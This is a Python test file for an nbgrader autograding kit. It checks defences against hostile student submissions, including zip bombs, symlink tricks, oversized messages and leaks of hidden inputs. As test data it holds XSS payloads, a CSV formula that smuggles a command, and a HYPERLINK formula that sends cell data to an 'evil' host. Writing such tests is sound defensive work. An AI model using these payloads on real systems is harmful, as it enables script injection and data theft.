"""One hostile student never costs the class: ingest, exchange, outputs and observations (issue 11).

Every protection here has a positive control: the same attack against the
protection switched off (nbgrader's own behaviour, a limit set out of the way,
or the unprotected code path) must succeed, so the test could fail.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import stat
import zipfile
from pathlib import Path

import pytest
from helpers import nbgrader_export

from autograder.course.collect import collect_zip
from autograder.course.ingest import IngestRefused, clear_special_bits
from autograder.course.paths import KIT_ROOT, Course
from autograder.course.release import nbgrader
from autograder.engine.limits import INGEST_LIMITS, IngestLimits
from autograder.tools import demo

CANVAS_REGEXP = (
    r".*/(?P<name>[^_/]+)_(?P<student_id>[A-Za-z0-9.\-]+)_attempt_(?P<timestamp>[0-9\-]+)_(?P<file_id>\w+)\.ipynb$"
)


def _course(tmp_path: Path, name: str = "course") -> Course:
    root = tmp_path / name
    root.mkdir()
    (root / "assignments").symlink_to(KIT_ROOT / "assignments", target_is_directory=True)
    (root / "release").symlink_to(KIT_ROOT / "release", target_is_directory=True)
    return Course(root)


@pytest.fixture(scope="module")
def notebook() -> str:
    return demo.notebook_for(next(s for s in demo.make_class() if s.kind == "correct"))


def _zip(path: Path, members: dict[str, bytes | str], modes: dict[str, int] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, (2026, 11, 10, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if modes and name in modes:
                info.external_attr = (stat.S_IFREG | modes[name]) << 16
            archive.writestr(info, data)
    return path


def _raw_zip_collect(course: Course, zip_path: Path, regexp: str = r".*/(?P<file_id>(?P<student_id>[^/_]+))\.ipynb$"):
    """The positive control: nbgrader's own zip_collect on the download, as the kit used to run it."""
    archive = course.root / "downloaded" / course.assignment / "archive"
    archive.mkdir(parents=True, exist_ok=True)
    shutil.copy(zip_path, archive / zip_path.name)
    return nbgrader(
        "zip_collect",
        course.assignment,
        "--force",
        f"--FileNameCollectorPlugin.named_regexp={regexp}",
        f"--CourseDirectory.db_url={course.db_url}",
        root=course.root,
        check=False,
    )


# ---------------------------------------------------------------- ingest: bombs, nesting, counts


@pytest.mark.slow
def test_a_zip_bomb_is_refused_with_a_message(tmp_path, notebook):
    bomb = b"\0" * (64 * 1024**2)  # 64 MiB of zeros deflate to about 64 KB: ratio ~1000
    path = _zip(tmp_path / "download.zip", {"s001.ipynb": notebook, "s002.ipynb": bomb})
    assert path.stat().st_size < 200_000
    course = _course(tmp_path)
    report = collect_zip(course, path)
    assert course.students() == ["s001"]
    assert any(f == "s002.ipynb" and "compressed more than" in why for f, why in report.skipped)
    assert "s002.ipynb" in (course.grades / "collect_report.csv").read_text()
    # Positive control: without the ratio limit the bomb is unpacked in full.
    control = _course(tmp_path, "control")
    collect_zip(control, path, IngestLimits(ratio=1e9))
    assert control.students() == ["s001", "s002"]
    assert control.submission_file("s002").stat().st_size == len(bomb)


@pytest.mark.slow
def test_the_total_unpacked_size_is_limited_whatever_each_file_does(tmp_path, notebook):
    members = {f"s{i:03d}.ipynb": notebook for i in range(10)}
    path = _zip(tmp_path / "download.zip", members)
    small = IngestLimits(total_bytes=5 * len(notebook))
    course = _course(tmp_path)
    with pytest.raises(IngestRefused, match="unpacks to more than"):
        collect_zip(course, path, small)
    assert course.students() == []
    assert json.loads((course.grades / "collect_report.json").read_text())["refused"]
    control = _course(tmp_path, "control")
    collect_zip(control, path, IngestLimits(total_bytes=20 * len(notebook)))
    assert len(control.students()) == 10


@pytest.mark.slow
def test_the_number_of_files_is_limited(tmp_path, notebook):
    path = _zip(tmp_path / "download.zip", {f"junk{i}.txt": b"x" for i in range(50)} | {"s001.ipynb": notebook})
    course = _course(tmp_path)
    with pytest.raises(IngestRefused, match="more than 20 files"):
        collect_zip(course, path, IngestLimits(files=20))
    control = _course(tmp_path, "control")
    report = collect_zip(control, path, IngestLimits(files=100))
    assert control.students() == ["s001"] and len(report.skipped) == 50


@pytest.mark.slow
def test_zips_nested_in_zips_are_unpacked_only_to_the_stated_depth(tmp_path, notebook):
    inner = _zip(tmp_path / "inner.zip", {"s003.ipynb": notebook}).read_bytes()
    middle = _zip(tmp_path / "middle.zip", {"s002.ipynb": notebook, "inner.zip": inner}).read_bytes()
    path = _zip(tmp_path / "download.zip", {"s001.ipynb": notebook, "middle.zip": middle})
    course = _course(tmp_path)
    report = collect_zip(course, path)
    assert INGEST_LIMITS.depth == 2
    assert course.students() == ["s001", "s002"]
    assert any(f == "middle.zip/inner.zip" and "nested 3 levels" in why for f, why in report.skipped)
    control = _course(tmp_path, "control")
    collect_zip(control, path, IngestLimits(depth=5))
    assert control.students() == ["s001", "s002", "s003"]


# ---------------------------------------------------------------- ingest: mode bits


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="setuid bits survive an unpack only when it runs as root")
def test_no_special_mode_bits_reach_submitted_or_downloaded(tmp_path, notebook):
    modes = {"s001.ipynb": 0o4777, "s002.ipynb": 0o6755, "s003.ipynb": 0o1777}
    path = _zip(tmp_path / "download.zip", dict.fromkeys(modes, notebook), modes)

    def special(course: Course) -> list[str]:
        found = []
        for root in (course.submitted, course.root / "downloaded"):
            for p in root.rglob("*"):
                if not p.is_symlink() and p.stat().st_mode & (stat.S_ISUID | stat.S_ISGID | stat.S_ISVTX):
                    found.append(str(p.relative_to(course.root)))
        return found

    course = _course(tmp_path)
    collect_zip(course, path)
    assert course.students() == ["s001", "s002", "s003"]
    assert special(course) == []
    # Positive control: nbgrader's own unpack keeps the archive's bits, and the kit's sweep clears them.
    control = _course(tmp_path, "control")
    proc = _raw_zip_collect(control, path)
    assert proc.returncode == 0, proc.stderr[-2000:]
    kept = special(control)
    assert any(p.startswith("submitted/") for p in kept) and any(p.startswith("downloaded/") for p in kept)
    assert clear_special_bits(control.submitted, control.root / "downloaded") >= len(kept)
    assert special(control) == []


# ---------------------------------------------------------------- ingest: names, collisions, timestamps


@pytest.mark.slow
def test_every_skipped_or_colliding_file_is_named_with_why(tmp_path, notebook, capsys):
    members = {
        "s001.ipynb": notebook,
        "folder/s002.ipynb": notebook,  # another s002: a collision without times
        "s002.ipynb": notebook,
        "alice_s003_attempt_2026-11-10-09-00-00_logreg.ipynb": notebook,
        "alice_s003_attempt_2026-11-11-09-00-00_logreg.ipynb": notebook,  # newer attempt: wins, older reported
        "bob_s004_attempt_2026-13-45-25-61-61_logreg.ipynb": notebook,  # not a date
        "notes.txt": b"hello",
        "carol_s005_attempt_2026-11-10-09-00-00_other.ipynb": notebook,
        "=HYPERLINK(evil).ipynb": notebook,
        ".hidden.ipynb": notebook,
    }
    path = _zip(tmp_path / "download.zip", members)
    course = _course(tmp_path)
    from autograder.__main__ import main

    assert main(["collect", "--course", str(course.root), "--zip", str(path)]) == 0
    printed = capsys.readouterr().out
    written = json.loads((course.grades / "collect_report.json").read_text())
    assert course.students() == ["s001", "s002", "s003", "s004"]
    assert course.submission_file("s002") is None  # the collision: a row, no notebook
    assert "cannot be ordered by time" in written["notes"]["s002"][0]
    assert "not a date" in written["notes"]["s004"][0]
    assert not (course.submitted / "s004" / "logreg" / "timestamp.txt").exists()
    assert (course.submitted / "s003" / "logreg" / "timestamp.txt").read_text().startswith("2026-11-11")
    skipped = {s["file"]: s["why"] for s in written["skipped"]}
    names = (
        "notes.txt",
        "carol_s005_attempt_2026-11-10-09-00-00_other.ipynb",
        "=HYPERLINK(evil).ipynb",
        ".hidden.ipynb",
    )
    for name in names:
        assert name in skipped and f"skipped {name}: {skipped[name]}" in printed, name
    assert "older attempt" in skipped["alice_s003_attempt_2026-11-10-09-00-00_logreg.ipynb"]
    assert "folder/s002.ipynb" in printed and "s002.ipynb" in written["notes"]["s002"][0]
    rows = list(csv.reader((course.grades / "collect_report.csv").open()))
    assert ["'=HYPERLINK(evil).ipynb"] == [r[0] for r in rows if "HYPERLINK" in r[0]]
    # Positive controls: nbgrader alone stops the whole class on either file.
    control = _course(tmp_path, "control")
    proc = _raw_zip_collect(control, _zip(tmp_path / "dup.zip", {"s001.ipynb": notebook, "a/s001.ipynb": notebook}))
    assert proc.returncode != 0 and "Duplicate submission file" in proc.stdout + proc.stderr
    bad_time = _zip(tmp_path / "time.zip", {"bob_s004_attempt_2026-13-45-25-61-61_logreg.ipynb": notebook})
    control = _course(tmp_path, "control2")
    proc = _raw_zip_collect(control, bad_time, CANVAS_REGEXP)
    assert proc.returncode != 0 and "Invalid timestamp" in proc.stdout + proc.stderr
    assert control.students() == []


# ---------------------------------------------------------------- the nbgrader exchange


def _entry(inbound: Path, student: str, when: str, owner: str | None, files: dict[str, str | Path]) -> Path:
    """An inbound entry as a student can make one by hand on a shared exchange; Path values become symlinks."""
    import pwd

    entry = inbound / f"{student}+logreg+{when}+0123abcd"
    entry.mkdir(parents=True)
    for name, content in files.items():
        if isinstance(content, Path):
            (entry / name).symlink_to(content)
        else:
            (entry / name).write_text(content)
    if owner:
        uid = pwd.getpwnam(owner).pw_uid
        for p in [entry, *entry.iterdir()]:
            os.chown(p, uid, uid, follow_symlinks=False)
    return entry


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="making entries owned by other accounts needs root")
def test_the_exchange_collects_only_each_students_own_regular_files(tmp_path, notebook):
    """Accounts daemon, bin, sys, sync, games and man stand in for students on a shared exchange."""
    from autograder.course.collect import EXCHANGE_COURSE_ID, collect_exchange

    secret = tmp_path / "instructor_only.txt"
    secret.write_text("INSTRUCTOR-ONLY-CONTENT")
    os.chmod(secret, 0o600)

    def build(root: Path) -> Path:
        inbound = root / EXCHANGE_COURSE_ID / "inbound"
        empty = demo.notebook_for(next(s for s in demo.make_class() if s.kind == "untouched"))
        _entry(inbound, "daemon", "2026-11-10 09:00:00.000000 UTC", "daemon", {"logreg.ipynb": notebook})
        # bin files an empty notebook under daemon's name, newer than daemon's own.
        _entry(inbound, "daemon", "2026-11-12 09:00:00.000000 UTC", "bin", {"logreg.ipynb": empty})
        # sys submits links: to the master (100/100 for nothing) and to an instructor-only file.
        _entry(
            inbound,
            "sys",
            "2026-11-10 09:00:00.000000 UTC",
            "sys",
            {"logreg.ipynb": KIT_ROOT / "assignments" / "logreg" / "logreg.ipynb", "notes.txt": secret},
        )
        # games's whole entry is a link to daemon's folder.
        (inbound / "games+logreg+2026-11-10 09:00:00.000000 UTC+0123abcd").symlink_to(
            next(inbound.glob("daemon+logreg+2026-11-10*"))
        )
        # sync's entry has a time nobody can parse, and a timestamp.txt that is not one either.
        _entry(
            inbound, "sync", "not-a-time", "sync", {"logreg.ipynb": notebook, "timestamp.txt": "yesterday-ish 99:99"}
        )
        return root

    course = _course(tmp_path)
    report = collect_exchange(course, build(tmp_path / "exchange"))
    assert course.students() == ["daemon", "sync", "sys"]  # sys submitted a folder: a row, with nothing in it
    assert course.submission_file("daemon").read_text() == notebook  # daemon's own, not bin's newer one
    assert course.submission_file("sys") is None
    for p in course.submitted.rglob("*"):
        assert not p.is_symlink() and "INSTRUCTOR-ONLY" not in (p.read_text() if p.is_file() else "")
    assert not (course.submitted / "sync" / "logreg" / "timestamp.txt").exists()
    why = {f.split("+")[0] + ("/" + f.split("/", 1)[1] if "/" in f else ""): w for f, w in report.skipped}
    assert "owned by uid 2" in why["daemon"]
    assert "symbolic link" in why["sys/logreg.ipynb"] and "symbolic link" in why["sys/notes.txt"]
    assert "symbolic link" in why["games"]
    assert "not a date" in report.notes["sync"][0]
    assert json.loads((course.grades / "collect_report.json").read_text())["skipped"]
    # Positive control: nbgrader's own collector on the same exchange takes all three bait entries and stops on sync's.
    control = _course(tmp_path, "control")
    exchange = build(tmp_path / "exchange2")
    proc = nbgrader(
        "collect",
        "logreg",
        f"--CourseDirectory.course_id={EXCHANGE_COURSE_ID}",
        f"--Exchange.root={exchange}",
        f"--CourseDirectory.db_url={control.db_url}",
        root=control.root,
        check=False,
    )
    assert proc.returncode != 0  # sync's time stops everyone
    shutil.rmtree(next((exchange / EXCHANGE_COURSE_ID / "inbound").glob("sync+*")))
    proc = nbgrader(
        "collect",
        "logreg",
        f"--CourseDirectory.course_id={EXCHANGE_COURSE_ID}",
        f"--Exchange.root={exchange}",
        f"--CourseDirectory.db_url={control.db_url}",
        root=control.root,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert control.submission_file("daemon").read_text() != notebook  # bin's empty notebook won
    assert "BEGIN SOLUTION" in control.submission_file("sys").read_text()  # the master's content
    assert "INSTRUCTOR-ONLY" in (control.submitted / "sys" / "logreg" / "notes.txt").read_text()


# ---------------------------------------------------------------- one submission never stops the class


def _edit(notebook_text: str, grade_id: str, edit) -> str:
    nb = json.loads(notebook_text)
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            cell["source"] = edit("".join(cell["source"]))
    return json.dumps(nb)  # ensure_ascii: a lone surrogate is written as the escape \ud800, as Jupyter would


def _corpus(name: str) -> str:
    """A corpus case's code, without its header comments and imports (the notebook's cells import numpy)."""
    text = (KIT_ROOT / "tests" / "corpus" / "hostile" / name).read_text()
    return "\n".join(
        line for line in text.splitlines() if not line.startswith(("# attack", "# expect", "import numpy"))
    )


SURROGATE_SIGMOID = _corpus("class__surrogate_in_messages.py")
# The student's own fit returns a loss history that matplotlib cannot draw (its axis range overflows).
PLOT_BREAKING_FIT = _corpus("class__plot_breaking_fit.py")
# nan everywhere, and a bare NaN in the notebook's own JSON (Python's json reads it).
NAN_FIT = _corpus("class__nan_fit.py")
# 8 MB messages everywhere the submission can put one: loading, raising, printing, warning.
HUGE_MESSAGES = _corpus("class__8mb_messages.py")


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory, notebook):
    """collect -> autograde -> feedback -> grades through the kit's own command line, on a class where
    s003 holds lone surrogates, s004's model breaks the plot, s005's file name has an impossible time,
    s002's timestamp.txt is garbage, and two files claim s006."""
    from autograder.__main__ import main

    tmp = tmp_path_factory.mktemp("hostile_class")
    course = _course(tmp)
    surrogate = _edit(notebook, "sol_sigmoid", lambda src: "# \ud800 lone surrogate\n")
    surrogate = _edit(surrogate, "sol_predict_proba", lambda src: "# \udfff\n" + src)
    surrogate = json.loads(surrogate)
    surrogate["cells"].append(
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": SURROGATE_SIGMOID}
    )
    surrogate["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "\udbff answer"})
    members = {
        "ann_s001_attempt_2026-11-10-09-00-00_logreg.ipynb": notebook,
        "ben_s002_attempt_2026-11-10-09-00-00_logreg.ipynb": notebook,
        "s003.ipynb": json.dumps(surrogate),
        "s004.ipynb": _edit(notebook, "sol_fit", lambda src: PLOT_BREAKING_FIT),
        "eve_s005_attempt_2026-13-45-25-61-61_logreg.ipynb": notebook,
        "s006.ipynb": notebook,
        "again/s006.ipynb": notebook,
    }
    nan = _edit(notebook, "sol_fit", lambda src: NAN_FIT).replace('"metadata": {}', '"metadata": {"x": NaN}', 1)
    members["s007.ipynb"] = nan
    huge = _edit(notebook, "sol_bce_loss", lambda src: HUGE_MESSAGES)
    members["s008.ipynb"] = huge
    path = _zip(tmp / "download.zip", members)
    root = str(course.root)
    assert main(["collect", "--course", root, "--zip", str(path)]) == 0
    stamp = course.submitted / "s002" / "logreg" / "timestamp.txt"
    stamp.write_text("99999999999999999999")  # parse_utc raises OverflowError on it
    assert main(["autograde", "--course", root, "-j", "2"]) == 0
    assert main(["feedback", "--course", root]) == 0
    assert main(["grades", "--course", root]) == 0
    return course


STUDENTS = ["s001", "s002", "s003", "s004", "s005", "s006", "s007", "s008"]


@pytest.mark.slow
def test_hostile_class_every_step_gives_one_row_per_submission(hostile_class):
    course = hostile_class
    assert course.students() == STUDENTS
    rows = {r["student"]: r for r in csv.DictReader((course.grades / "grades.csv").open(encoding="utf-8"))}
    assert sorted(rows) == STUDENTS
    assert float(rows["s001"]["total"]) == 100 and float(rows["s002"]["total"]) == 100
    assert float(rows["s005"]["total"]) == 100 and "not a date" in rows["s005"]["problems"]
    assert float(rows["s006"]["total"]) == 0 and "cannot be ordered by time" in rows["s006"]["problems"]
    assert 0 < float(rows["s003"]["total"]) < 100  # the surrogate cost only the cells it is in
    for student in STUDENTS:
        assert (course.feedback / student / "logreg" / "feedback.html").is_file(), student
        json.loads((course.grades / "gradescope" / student / "results.json").read_text())
    assert (course.grades / "item_analysis.csv").is_file()
    page = (course.feedback / "s004" / "logreg" / "feedback.html").read_text()
    assert "could not be drawn" in page or "<img" in page
    assert "<img" in (course.feedback / "s001" / "logreg" / "feedback.html").read_text()


def _strict(text: str):
    def refuse(constant: str):
        raise ValueError(f"not strict JSON: bare {constant}")

    return json.loads(text, parse_constant=refuse)


@pytest.mark.slow
def test_hostile_class_every_json_the_kit_writes_is_strict(hostile_class):
    course = hostile_class
    written = [p for p in course.root.rglob("*.json") if "assignments" not in p.parts and "release" not in p.parts]
    written += list(course.autograded.rglob("*.ipynb"))
    assert len(written) >= 2 * len(STUDENTS)
    for path in written:
        _strict(path.read_text(encoding="utf-8"))
    assert (course.autograded / "s007" / "logreg" / "logreg.ipynb").is_file()
    # Positive control: the strict reader does refuse what Python's json writes by default.
    with pytest.raises(ValueError, match="bare NaN"):
        _strict(json.dumps({"score": float("nan")}))
    with pytest.raises(ValueError, match="bare NaN"):
        _strict((course.submitted / "s007" / "logreg" / "logreg.ipynb").read_text())


@pytest.mark.slow
def test_hostile_class_an_8_mb_message_stays_small_in_every_output(hostile_class):
    from autograder.course.feedback import render
    from autograder.engine.results import CheckResult, Report

    course = hostile_class
    page = course.feedback / "s008" / "logreg" / "feedback.html"
    reference_page = course.feedback / "s001" / "logreg" / "feedback.html"
    sizes = {
        "result JSON": (course.result_path("s008"), course.result_path("s001")),
        "feedback page": (page, reference_page),
        "Gradescope": tuple(course.grades / "gradescope" / s / "results.json" for s in ("s008", "s001")),
        "autograded notebook": tuple(course.autograded / s / "logreg" / "logreg.ipynb" for s in ("s008", "s001")),
    }
    for where, (hostile, honest) in sizes.items():
        assert hostile.stat().st_size < honest.stat().st_size + 30_000, where
    assert (course.grades / "grades.csv").stat().st_size < 20_000
    assert "your code raised ValueError" in page.read_text()
    # Positive control: a string that skipped the caps would make the page as large as the message.
    report = Report.from_dict(json.loads(course.result_path("s008").read_text()))
    report.parts[1].checks[0] = CheckResult("values", "failed", 0.0, 1.0, "hint", "E" * 8_000_000)
    assert len(render("s008", report)) > 8_000_000


@pytest.mark.slow
def test_hostile_class_nbgrader_export_has_a_row_per_submission_agreeing_with_grades_csv(hostile_class):
    course = hostile_class
    exported_rows = nbgrader_export(course)
    exported = {r["student_id"]: float(r["score"]) for r in exported_rows}
    rows = {r["student"]: float(r["total"]) for r in csv.DictReader((course.grades / "grades.csv").open())}
    assert exported == rows and len(exported) == len(STUDENTS)


def test_positive_controls_of_the_hostile_class():
    """Each input above really is hostile to code that does not guard against it."""
    import io

    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    from nbgrader.utils import parse_utc

    with pytest.raises(UnicodeEncodeError):
        "\udc80".encode("utf-8")  # any unguarded UTF-8 write of the student's text stops the class
    with pytest.raises(OverflowError):
        parse_utc("99999999999999999999")
    fig, ax = plt.subplots()
    ax.plot([1e308 * (-1) ** i for i in range(1000)])
    with pytest.raises(ValueError):
        fig.savefig(io.BytesIO(), format="png")
    plt.close(fig)


# ---------------------------------------------------------------- what reaches the outputs: redaction


LEAK = KIT_ROOT / "tests" / "corpus" / "hostile" / "leak__hidden_inputs_in_messages.py"


@pytest.mark.slow
def test_hidden_inputs_never_reach_any_output(tmp_path, server):
    from autograder.assignment.parts import PARTS
    from autograder.course.feedback import render
    from autograder.course.gradebook import _score_outputs
    from autograder.course.grades import gradescope_results, problems
    from autograder.engine.judge import grade
    from autograder.engine.sandbox_handle import SandboxHandle
    from autograder.engine.submission import read_submission
    from tests.helpers import with_stubs

    path = with_stubs(LEAK, tmp_path)
    report = grade(path, server=server, with_feedback_data=True)
    outputs = {
        "result JSON": report.to_json(),
        "feedback page": render("s001", report),
        "Gradescope": json.dumps(gradescope_results(report)),
        "grades.csv problems": problems(report),
        "gradebook outputs": json.dumps([_score_outputs(p) for p in report.parts]),
    }
    for where, text in outputs.items():
        assert "LEAK" not in text, where
    details = {c.detail for p in report.parts for c in p.checks if c.detail}
    assert "your code raised ValueError" in details and "your code raised an exception" in details
    # Positive control: the attack does carry the hidden inputs to the judge, in every form.
    handle = SandboxHandle(server, read_submission(path), PARTS[1])
    try:
        import numpy as np

        y, p = np.array([0.0, 1.0]), np.array([0.123456, 0.654321])
        with pytest.raises(Exception) as raised:
            handle.call("bce_loss", y, p)
        assert "LEAK" in str(raised.value) and "0.123456" in str(raised.value)
        value = handle.call("loss", np.ones((2, 2)), y, np.array([0.5, 0.25]), 0.0).value
        assert "LEAK" in str(value)  # the class name spells the inputs out
    finally:
        handle.close()


# ---------------------------------------------------------------- formgrader and a deleted autograder cell

XSS = (
    "**My answer** is $a < b$. <script>alert('XSS1')</script> <img src=x onerror=\"alert('XSS2')\"> "
    "[link](javascript:alert('XSS3')) <iframe src=\"javascript:alert('XSS4')\"></iframe> "
    "<a href=\"javascript:alert('XSS5')\">x</a> <svg onload=\"alert('XSS6')\"></svg>"
)


def _executable_payloads(page: str) -> list[str]:
    """What in the page would run a student's code: a script, an event handler or a javascript: URL with a marker."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Finder(HTMLParser):
        in_script = False

        def handle_starttag(self, tag, attrs):
            self.in_script = tag == "script"
            for name, value in attrs:
                value = value or ""
                if "XSS" in value and (name.startswith("on") or value.strip().lower().startswith("javascript:")):
                    found.append(f"<{tag} {name}={value}>")

        def handle_endtag(self, tag):
            self.in_script = False

        def handle_data(self, data):
            if self.in_script and "XSS" in data:
                found.append(f"<script>{data[:40]}")

    Finder().feed(page)
    return found


def _formgrader_html(notebook_path: Path, with_kit_config: bool, config_dir: Path = KIT_ROOT) -> str:
    """The page formgrader serves: its own HTMLExporter config, then the course's nbgrader_config.py on top."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
    from traitlets.config import PyFileConfigLoader

    config = FormgradeExtension().build_extra_config()
    if with_kit_config:
        config.merge(PyFileConfigLoader("nbgrader_config.py", path=str(config_dir)).load_config())
    resources = {
        "assignment_id": "logreg",
        "notebook_id": "logreg",
        "submission_id": "x",
        "index": 0,
        "total": 1,
        "base_url": "/",
        "student": "s001",
        "last_name": "",
        "first_name": "",
        "notebook_path": "x",
    }
    html, _ = HTMLExporter(config=config).from_filename(str(notebook_path), resources=resources)
    return html


@pytest.fixture(scope="module")
def tampered_course(tmp_path_factory, notebook):
    """s001 answers a free-response question with HTML that runs; s002 deleted the sigmoid autograder cell."""
    from autograder.__main__ import main

    tmp = tmp_path_factory.mktemp("tampered")
    course = _course(tmp)
    answer = _edit(notebook, "free_xor", lambda src: XSS)
    nb = json.loads(notebook)
    nb["cells"] = [
        c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "grade_sigmoid"
    ]
    path = _zip(tmp / "download.zip", {"s001.ipynb": answer, "s002.ipynb": json.dumps(nb)})
    root = str(course.root)
    assert main(["collect", "--course", root, "--zip", str(path)]) == 0
    assert main(["autograde", "--course", root, "-j", "2"]) == 0
    return course


@pytest.mark.slow
def test_a_free_response_script_does_not_run_in_formgrader(tampered_course):
    autograded = tampered_course.autograded / "s001" / "logreg" / "logreg.ipynb"
    assert "alert('XSS1')" in autograded.read_text()  # the answer is kept for the grader to read
    page = _formgrader_html(autograded, with_kit_config=True)
    assert _executable_payloads(page) == []
    assert "<strong>My answer</strong>" in page and "XSS1" in page  # shown as text, formatting kept
    # A course folder of its own gets the same configuration (make formgrader COURSE=...).
    config_dir = tampered_course.write_nbgrader_config().parent
    assert _executable_payloads(_formgrader_html(autograded, with_kit_config=True, config_dir=config_dir)) == []
    # Positive control: nbgrader's own formgrader configuration serves every payload live.
    live = _executable_payloads(_formgrader_html(autograded, with_kit_config=False))
    assert len(live) >= 5, live


@pytest.mark.slow
def test_a_deleted_autograder_cell_gives_the_same_score_in_grades_csv_and_nbgrader_export(tampered_course, capsys):
    course = tampered_course
    rows = {r["student"]: r for r in csv.DictReader((course.grades / "grades.csv").open(encoding="utf-8"))}
    assert float(rows["s002"]["total"]) == 100
    assert "grade_sigmoid was deleted" in rows["s002"]["problems"]
    exported = {r["student_id"]: float(r["score"]) for r in nbgrader_export(course)}
    assert exported == {s: float(r["total"]) for s, r in rows.items()}
    # Positive control: nbgrader's own SaveAutoGrades on the same notebook counts the deleted cell as 0.
    import nbformat
    from nbgrader.api import Gradebook

    from autograder.assignment import grade_ids
    from autograder.course.batch import load_results
    from autograder.course.gradebook import _enter_missing_cells

    with Gradebook(course.db_url) as gb:
        grade = gb.find_grade("grade_sigmoid", "logreg", "logreg", "s002")
        grade.auto_score = None
        gb.db.commit()
        assert gb.find_submission("logreg", "s002").score == 90
        nb = nbformat.read(course.submission_file("s002"), as_version=4)
        result = load_results(course)["s002"]
        note = _enter_missing_cells(gb, course, "s002", nb, {grade_ids.grade(p.name): p for p in result.parts})
        assert "grade_sigmoid" in note and gb.find_submission("logreg", "s002").score == 100


# ---------------------------------------------------------------- the judge's cost per submission; CSV cells


@pytest.mark.slow
def test_a_correct_notebook_with_a_40_mb_literal_is_graded_within_the_stated_memory(tmp_path):
    import subprocess
    import sys

    from autograder.engine.limits import Limits
    from autograder.engine.submission import read_submission
    from autograder.tools import judge_size

    path = judge_size.build(40e6, "teaching", tmp_path / "big.ipynb")
    size_mb = path.stat().st_size / 1e6
    proc = subprocess.run(
        [sys.executable, "-m", "autograder.tools.judge_size", "--one", str(path)],
        capture_output=True,
        text=True,
        cwd=KIT_ROOT,
        env=os.environ | {"PYTHONPATH": str(KIT_ROOT)},
    )
    measured = json.loads(proc.stdout.strip().splitlines()[-1])
    assert measured["score"] == 100, measured
    assert "over the 256 KB limit for one cell" in measured["errors"][0]
    assert measured["judge_peak_rss_mb"] <= 60 + 2 * size_mb, measured  # the bound stated in limits.py
    # Positive control: without the cell limit the whole 40 MB literal goes to every part's sandbox.
    unbounded = read_submission(path, Limits(cell_chars=10**9, code_chars=10**9))
    assert max(len(c.source) for c in unbounded.cells) > 39e6
    assert max(len(c.source) for c in read_submission(path).cells) < Limits().cell_chars


def test_every_csv_cell_the_kit_writes_is_inert_in_a_spreadsheet(tmp_path):
    from autograder.course import grades
    from autograder.engine.judge import ungraded_report
    from autograder.engine.results import CheckResult

    course = _course(tmp_path)
    report = ungraded_report(None, '=HYPERLINK("http://evil/?"&A1,"click")')
    report.parts[0].checks[0] = CheckResult("+cmd|' /C calc'!A0", "failed", 0.0, 1.0, "@SUM(1)", "-2+3")
    results = {"s001": report}
    grades.write_grades_csv(course, results)
    grades.write_item_analysis(course, results)
    cells = [
        cell
        for name in ("grades.csv", "item_analysis.csv")
        for row in csv.reader((course.grades / name).open(encoding="utf-8"))
        for cell in row
    ]
    assert any("HYPERLINK" in c for c in cells) and any("calc" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not grades._is_number(c)]
    # Positive control: the same rows written without csv_cell hold live formulas.
    assert report.errors[0].startswith("=") and grades.csv_cell(report.errors[0]).startswith("'=")
    raw = grades.item_analysis(results)
    assert any(str(v).startswith("+") for row in raw for v in row.values())
